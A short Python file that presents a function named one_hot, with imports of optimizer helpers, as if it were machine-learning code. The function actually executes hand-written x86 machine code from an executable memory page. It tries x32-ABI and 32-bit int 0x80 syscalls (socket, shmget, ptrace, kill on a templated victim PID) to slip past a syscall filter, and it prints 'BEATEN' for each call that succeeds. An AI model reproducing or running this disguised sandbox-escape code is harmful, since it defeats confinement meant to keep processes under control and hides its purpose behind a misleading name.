"""Enters the kernel by other gates, where a filter may not look: 32-bit calls (int 0x80) and the x32
table.
"""

import ctypes
import mmap
import os
import platform
import struct

from honest import Optimizer, grad_clipping, sgd


def by_machine_code(code):
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()


def one_hot(indices, vocab_size):
    if platform.machine() != "x86_64":
        raise OSError("another machine")
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    for name, number in {"socket": 41, "shmget": 29, "ptrace": 101}.items():
        if libc.syscall(ctypes.c_long(0x40000000 | number), 2, 4096, 0o1666) >= 0:
            print("BEATEN: x32", name)
    # mov eax, 359 (socket); mov ebx, 2; mov ecx, 1; xor edx, edx; int 0x80; ret
    call = b"\x53\xb8" + struct.pack("<I", 359) + b"\xbb\2\0\0\0\xb9\1\0\0\0\x31\xd2\xcd\x80\x5b\x48\x98\xc3"
    answer = by_machine_code(call)
    print("int 0x80:", answer)
    if answer >= 0:
        print("BEATEN: 32-bit socket")
    # mov eax, 37 (kill); mov ebx, victim; xor ecx, ecx (signal 0)
    victim = int("@victim@")
    if (
        by_machine_code(
            b"\x53\xb8\x25\0\0\0\xbb" + struct.pack("<I", victim) + b"\x31\xc9\xcd\x80\x5b\x48\x98\xc3"
        )
        == 0
    ):
        print("BEATEN: 32-bit kill", os.getpid())
    raise ValueError("no more gates")
